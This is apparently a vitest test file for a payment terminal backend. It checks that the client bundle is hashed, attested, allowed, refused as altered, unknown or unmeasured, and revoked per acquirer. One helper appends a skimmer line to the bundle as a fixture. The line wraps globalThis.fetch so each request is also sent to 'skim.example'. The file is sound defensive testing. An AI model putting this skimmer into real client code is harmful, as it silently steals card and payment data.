// Issue 16 §2: the REE client protects and proves itself. The build records the client bundle's
// SHA-256 in the signed manifest; the app (Terminal, the app API) measures the bundle it runs and
// the attest TA signs that measurement into the evidence; the acquirer keeps the releases it
// allows (HTTP /v1/admin/clients) and refuses an unknown, revoked or altered client with a typed
// reason (ERROR_CLIENT_REFUSED + ClientRefusal), a monitoring event (history, THREAT_ALERT, the
// console's device view, a metric) and, for an enrolled device, its suspension. Runs on SQLite
// and, in the `postgres` project, on PostgreSQL.
import { describe, test, expect, beforeAll, afterAll } from 'vitest';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { startTestBackend, Admin, a, buildManifest, tid, type Backend } from './harness.ts';
import { startRuntimeFromBuild, InProcessTeeDriver, DEFAULT_BUILD_DIR, type TeeRuntime } from '../../tee/index.ts';
import { simulatedDevice } from '../../sim/oem/index.ts';
import { signedTestTerminalConfig, testConfigSigningKey } from '../../sim/test-terminal-config.ts';
import { loadSignedConfig } from '../../common/emv/signed-config.ts';
import { CLIENT_FILE, parseManifest } from '../../common/manifest.ts';
import { Terminal } from '../../ree/terminal/index.ts';
import { failureOf } from '../../ree/terminal/request.ts';
import { BackendError } from '../../ree/attestation/backend-link.ts';
import { measureClientBundle, platformClientMeasurement, ClientMeasurementError, type ClientMeasurement } from '../../ree/attestation/client-measurement.ts';
import { measureClientFile } from '../../ree/node/client-bundle.ts';
import { phoneHealth } from '../helpers/phone.ts';
import { ALL_ACQUIRERS } from '../../backend/store/repository.ts';
import { putAcquirer } from '../../backend/tenants.ts';

const MANIFEST = join(DEFAULT_BUILD_DIR, 'manifest.json');
const manifest = parseManifest(readFileSync(MANIFEST));
const release = manifest.client!;
const bundle = new Uint8Array(readFileSync(join(DEFAULT_BUILD_DIR, CLIENT_FILE)));

/** The shipped bundle with a skimmer appended: same name and version, other code. */
function tamperedBundlePath(): string {
  const p = join(mkdtempSync(join(tmpdir(), 'tt-client-')), 'trusttap-client.js');
  writeFileSync(p, Buffer.concat([bundle, Buffer.from(';globalThis.fetch=((f)=>(u,o)=>f("https://skim.example/",o).then(()=>f(u,o)))(globalThis.fetch);\n')]));
  return p;
}

describe('the client measurement (ree)', () => {
  test('the reference client hashes the bundle it runs, under its signed release', () => {
    const m = measureClientFile(MANIFEST);
    expect(m).toMatchObject({ name: 'trusttap-client', version: release.version, source: 'self-reported' });
    expect(Buffer.from(m.sha256).toString('hex')).toBe(release.sha256);
    expect(Buffer.from(m.sha256).toString('hex')).toBe(createHash('sha256').update(bundle).digest('hex'));
    // An altered bundle measures as what it is: the hash comes from its bytes, not from the manifest.
    expect(Buffer.from(measureClientFile(MANIFEST, tamperedBundlePath()).sha256).toString('hex')).not.toBe(release.sha256);
  });

  test('a platform measurement is the SHA-256 of the DER AttestationApplicationId, with the signers', () => {
    const der = Uint8Array.of(0x30, 0x03, 0x31, 0x01, 0x00);
    const signer = new Uint8Array(32).fill(7);
    const m = platformClientMeasurement({ attestationApplicationIdDer: der, packageName: 'com.acquirer.pos', versionCode: 42, signatureDigests: [signer] });
    expect(m).toMatchObject({ name: 'com.acquirer.pos', version: '42', source: 'platform' });
    expect(Buffer.from(m.sha256).toString('hex')).toBe(createHash('sha256').update(der).digest('hex'));
    expect(m.signerSha256).toEqual([signer]);
  });

  test.each([
    [{ name: '', version: '1' }, /name/],
    [{ name: 'x'.repeat(65), version: '1' }, /name/],
    [{ name: 'a b', version: '1' }, /name/],
    [{ name: 'a', version: '' }, /version/],
  ])('a release named %j is refused', (r, why) => {
    expect(() => measureClientBundle(bundle, r)).toThrow(ClientMeasurementError);
    expect(() => measureClientBundle(bundle, r)).toThrow(why);
  });
});

describe('the acquirer allows, refuses and revokes clients (app API and HTTP API)', () => {
  let be: Backend;
  let admin: Admin;
  const runtimes: TeeRuntime[] = [];
  const terminals: Terminal[] = [];

  async function phone(client: ClientMeasurement | undefined): Promise<Terminal> {
    const dir = mkdtempSync(join(tmpdir(), 'tt-client-phone-'));
    const runtime = await startRuntimeFromBuild({ dataDir: dir, bootState: simulatedDevice(dir).bootState });
    runtimes.push(runtime);
    const health = phoneHealth();
    const t = await Terminal.open({
      tee: new InProcessTeeDriver(runtime), backendUrl: be.url, health: () => health, nfc: null, client,
      kernelConfig: loadSignedConfig(signedTestTerminalConfig(), testConfigSigningKey().publicKey),
    });
    terminals.push(t);
    return t;
  }

  const allow = (body: Record<string, unknown>) => admin.req('POST', '/v1/admin/clients', a.AllowClientRequest.encode(body).finish());
  const list = async () => a.ClientReleaseList.decode((await admin.req('GET', '/v1/admin/clients')).body).releases;
  /** The typed refusal of enroll(): BackendError ERROR_CLIENT_REFUSED with its ClientRefusal. */
  async function refusedEnrol(t: Terminal): Promise<{ err: BackendError; deviceId: string }> {
    const code = await admin.createTerminal('M-CLIENT', tid());
    const err = await t.enroll(code.activationCode).then(() => null, (e) => e);
    expect(err).toBeInstanceOf(BackendError);
    return { err: err as BackendError, deviceId: code.deviceId };
  }

  beforeAll(async () => {
    be = await startTestBackend();
    admin = new Admin(be);
  });
  afterAll(async () => {
    for (const t of terminals) await t.close().catch(() => undefined);
    for (const r of runtimes) r.shutdown();
    await be?.close();
  });

  test('an acquirer that allows no client does not check one; the evidence still carries it, signed', async () => {
    expect(await list()).toEqual([]);
    const t = await phone(measureClientFile(MANIFEST));
    const code = await admin.createTerminal('M-CLIENT', tid());
    await t.enroll(code.activationCode);
    const signals = await be.service.repo.deviceSignals(code.deviceId, 1);
    expect(JSON.parse(signals[0]!.measurements).client).toEqual({ name: 'trusttap-client', version: release.version, sha256: release.sha256, source: a.ClientMeasurementSource.CLIENT_MEASUREMENT_SOURCE_SELF_REPORTED });
  });

  test('HTTP: a release is allowed from the signed manifest; a bad signature, a clash or a bare name is refused', async () => {
    const m = buildManifest();
    const bad = await allow({ manifest: m.bytes, manifestSignature: Buffer.alloc(64, 1).toString('base64') });
    expect([bad.status, bad.error]).toEqual([400, 'ERROR_MALFORMED']);
    const ok = await allow({ manifest: m.bytes, manifestSignature: m.signature, reason: 'release 0.1.0' });
    expect(ok.status).toBe(200);
    const r = a.ClientRelease.decode(ok.body);
    expect([r.acquirerId, r.name, r.version, Buffer.from(r.sha256).toString('hex'), r.allowed]).toEqual(['default', 'trusttap-client', release.version, release.sha256, true]);
    expect((await allow({ manifest: m.bytes, manifestSignature: m.signature })).status).toBe(200); // the same again: no change
    const clash = await allow({ name: 'trusttap-client', version: release.version, sha256: Buffer.alloc(32, 9) });
    expect([clash.status, clash.error]).toEqual([409, 'ERROR_CONFLICT']);
    const noHash = await allow({ name: 'trusttap-client', version: '9.9.9' });
    expect([noHash.status, noHash.error]).toEqual([400, 'ERROR_MALFORMED']);
    const anon = await admin.req('GET', '/v1/admin/clients', undefined, 'wrong-token');
    expect(anon.status).toBe(401);
    expect((await list()).map((x) => `${x.name} ${x.version} ${x.allowed}`)).toEqual([`trusttap-client ${release.version} true`]);
  });

  test('app API: the genuine client enrols and attests; the history names it', async () => {
    const t = await phone(measureClientFile(MANIFEST));
    const code = await admin.createTerminal('M-CLIENT', tid());
    const { deviceId } = await t.enroll(code.activationCode);
    expect((await t.prepare()).verdict).toBe('allow');
    const h = await admin.history(deviceId);
    expect(h.filter((e) => e.kind === 'verdict').every((e) => (e.detail ?? "").includes(`client trusttap-client ${release.version} allowed`))).toBe(true);
  });

  test('app API: an altered client is refused ALTERED, a monitoring event the console shows', async () => {
    const before = await be.service.repo.listNotices({ types: ['THREAT_ALERT'], limit: 1000, scope: ALL_ACQUIRERS });
    const t = await phone(measureClientFile(MANIFEST, tamperedBundlePath()));
    const { err, deviceId } = await refusedEnrol(t);
    expect([err.http, err.codeName, err.clientRefusalName]).toEqual([403, 'ERROR_CLIENT_REFUSED', 'ALTERED']);
    expect(err.reason).toMatch(/its code was changed/);
    expect(failureOf(err)).toMatchObject({ code: 'CLIENT_NOT_ALLOWED', httpStatus: 403 });
    // Not enrolled, and the refusal is kept: history (kind rule), a THREAT_ALERT for the alerts view.
    expect((await admin.device(deviceId)).state).toBe(a.DeviceState.DEVICE_STATE_REGISTERED);
    const rule = (await admin.history(deviceId)).find((e) => e.kind === 'rule');
    expect(rule?.detail).toMatch(/^enrolment client refused \(altered\)/);
    const alerts = (await be.service.repo.listNotices({ types: ['THREAT_ALERT'], limit: 1000, scope: ALL_ACQUIRERS })).filter((n) => !before.some((b) => b.id === n.id));
    expect(alerts.map((n) => n.deviceId)).toEqual([deviceId]);
    // The console's device view (JSON route the page renders) shows the refusal.
    const signIn = await fetch(`${be.url}/console/api/session`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ adminToken: be.adminToken }) });
    const cookie = signIn.headers.get('set-cookie')!.split(';')[0]!;
    const view = await (await fetch(`${be.url}/console/api/devices/${deviceId}`, { headers: { cookie } })).json() as { client: { lastRefusal: { detail: string } | null } };
    expect(view.client.lastRefusal?.detail).toMatch(/client refused \(altered\)/);
    // And the metric, by reason.
    const metrics = await (await fetch(`${be.url}/metrics`, { headers: { authorization: `Bearer ${be.adminToken}` } })).text();
    expect(metrics).toMatch(/trusttap_client_refusals_total\{reason="altered"\} 1/);
  });

  test('app API: an unknown version and an unmeasured client are refused UNKNOWN and NOT_MEASURED', async () => {
    const unknown = await refusedEnrol(await phone(measureClientBundle(bundle, { name: 'trusttap-client', version: '0.0.1-dev' })));
    expect([unknown.err.codeName, unknown.err.clientRefusalName]).toEqual(['ERROR_CLIENT_REFUSED', 'UNKNOWN']);
    const none = await refusedEnrol(await phone(undefined));
    expect([none.err.codeName, none.err.clientRefusalName]).toEqual(['ERROR_CLIENT_REFUSED', 'NOT_MEASURED']);
  });

  test('policy: only platform-measured clients — a self-reported one is refused SELF_REPORTED, the platform\'s allowed app enrols', async () => {
    const der = Uint8Array.of(0x30, 0x06, 0x31, 0x04, 0x04, 0x02, 0x61, 0x62);
    const platform = platformClientMeasurement({ attestationApplicationIdDer: der, packageName: 'com.acquirer.pos', versionCode: 42, signatureDigests: [new Uint8Array(32).fill(3)] });
    expect((await allow({ name: 'com.acquirer.pos', version: '42', sha256: platform.sha256 })).status).toBe(200);
    await admin.putPolicy({ clientPlatformMeasuredOnly: true });
    try {
      const self = await refusedEnrol(await phone(measureClientFile(MANIFEST)));
      expect([self.err.codeName, self.err.clientRefusalName]).toEqual(['ERROR_CLIENT_REFUSED', 'SELF_REPORTED']);
      const t = await phone(platform);
      const code = await admin.createTerminal('M-CLIENT', tid());
      const { deviceId } = await t.enroll(code.activationCode);
      const signals = await be.service.repo.deviceSignals(deviceId, 1);
      expect(JSON.parse(signals[0]!.measurements).client).toMatchObject({ name: 'com.acquirer.pos', version: '42', source: a.ClientMeasurementSource.CLIENT_MEASUREMENT_SOURCE_PLATFORM });
    } finally {
      await admin.putPolicy({ clientPlatformMeasuredOnly: false });
    }
  });

  test('HTTP: revoking the release refuses its enrolled devices at their next attestation (REVOKED) and suspends them', async () => {
    const t = await phone(measureClientFile(MANIFEST));
    const code = await admin.createTerminal('M-CLIENT', tid());
    const { deviceId } = await t.enroll(code.activationCode);
    const noReason = await admin.req('POST', '/v1/admin/clients/revoke', a.RevokeClientRequest.encode({ name: 'trusttap-client', version: release.version }).finish());
    expect(noReason.status).toBe(400);
    const unknown = await admin.req('POST', '/v1/admin/clients/revoke', a.RevokeClientRequest.encode({ name: 'trusttap-client', version: '7.7.7', reason: 'x' }).finish());
    expect(unknown.status).toBe(404);
    const r = await admin.req('POST', '/v1/admin/clients/revoke', a.RevokeClientRequest.encode({ name: 'trusttap-client', version: release.version, reason: 'skimming flaw in the card screen' }).finish());
    expect(r.status).toBe(200);
    expect(a.ClientRelease.decode(r.body).allowed).toBe(false);
    const err = await t.prepare().then(() => null, (e) => e) as BackendError;
    expect([err.http, err.codeName, err.clientRefusalName]).toEqual([403, 'ERROR_CLIENT_REFUSED', 'REVOKED']);
    expect(err.reason).toMatch(/skimming flaw/);
    const d = await admin.device(deviceId);
    expect(d.state).toBe(a.DeviceState.DEVICE_STATE_SUSPENDED);
    expect(d.stateReason).toMatch(/attestation client refused \(revoked\)/);
    expect(failureOf(err)).toMatchObject({ code: 'CLIENT_NOT_ALLOWED' });
    // Suspended now: the next attestation is refused as such; a revoked release cannot be allowed again.
    const next = await t.prepare().then(() => null, (e) => e) as BackendError;
    expect([next.codeName, failureOf(next)?.code]).toEqual(['ERROR_DEVICE_SUSPENDED', 'DEVICE_NOT_TRUSTED']);
    const m = buildManifest();
    const again = await allow({ manifest: m.bytes, manifestSignature: m.signature });
    expect([again.status, again.error]).toEqual([409, 'ERROR_CONFLICT']);
  });

  test('issue 16 §1: each acquirer allows its own releases; a device is checked against its own acquirer\'s; the policy switch is per acquirer', async () => {
    const B = 'bank-b-client';
    const tokenB = (await putAcquirer(be.service.repo, { acquirerId: B, name: 'Bank B', newToken: true }, Date.now())).token!;
    const listOf = async (token: string, query = '') => {
      const r = await admin.req('GET', `/v1/admin/clients${query}`, undefined, token);
      expect(r.status, r.error ?? '').toBe(200);
      return a.ClientReleaseList.decode(r.body).releases.map((x) => `${x.acquirerId} ${x.name} ${x.version} ${x.allowed}`);
    };
    // bank-b allows none yet (the default acquirer revoked the reference client above): its phone
    // with the reference client enrols, unchecked.
    expect(await listOf(tokenB)).toEqual([]);
    expect(await listOf(be.adminToken, `?acquirer=${B}`)).toEqual([]);
    const t = await phone(measureClientFile(MANIFEST));
    const made = await admin.req('POST', '/v1/admin/terminals', a.CreateTerminalRequest.encode({ merchantId: 'M-CLIENT-B', terminalId: tid() }).finish(), tokenB);
    expect(made.status, made.error ?? '').toBe(201);
    const code = a.CreateTerminalResponse.decode(made.body);
    const { deviceId } = await t.enroll(code.activationCode);
    expect((await be.service.repo.getDevice(deviceId))?.acquirerId).toBe(B);
    // bank-b's token allows a release for bank-b only; it cannot read or change the default acquirer's.
    const own = await admin.req('POST', '/v1/admin/clients', a.AllowClientRequest.encode({ name: 'com.bank-b.pos', version: '3', sha256: Buffer.alloc(32, 3) }).finish(), tokenB);
    expect(own.status, own.error ?? '').toBe(200);
    expect(a.ClientRelease.decode(own.body).acquirerId).toBe(B);
    const defaultBefore = await listOf(be.adminToken);
    expect(defaultBefore.some((x) => x.includes('com.bank-b.pos'))).toBe(false);
    expect((await admin.req('GET', '/v1/admin/clients?acquirer=default', undefined, tokenB)).status).toBe(404);
    expect((await admin.req('POST', '/v1/admin/clients/revoke?acquirer=default', a.RevokeClientRequest.encode({ name: 'com.acquirer.pos', version: '42', reason: 'x' }).finish(), tokenB)).status).toBe(404);
    expect(await listOf(be.adminToken)).toEqual(defaultBefore);
    expect(await listOf(be.adminToken, `?acquirer=${B}`)).toEqual([`${B} com.bank-b.pos 3 true`]);
    expect((await admin.req('GET', '/v1/admin/clients?acquirer=no-such-acquirer')).status).toBe(404);
    // bank-b now checks clients: its device's reference client is not one of bank-b's (UNKNOWN).
    const err = await t.prepare().then(() => null, (e) => e) as BackendError;
    expect([err.http, err.codeName, err.clientRefusalName]).toEqual([403, 'ERROR_CLIENT_REFUSED', 'UNKNOWN']);
    // client_platform_measured_only is bank-b's policy, not the default acquirer's.
    const cur = a.Policy.decode((await admin.req('GET', '/v1/admin/policy', undefined, tokenB)).body);
    const put = await admin.req('PUT', '/v1/admin/policy', a.Policy.encode({ ...cur, clientPlatformMeasuredOnly: true } as any).finish(), tokenB);
    expect(put.status, put.error ?? '').toBe(200);
    expect([be.service.currentPolicy(B).clientPlatformMeasuredOnly, be.service.currentPolicy('default').clientPlatformMeasuredOnly]).toEqual([true, false]);
  });
});
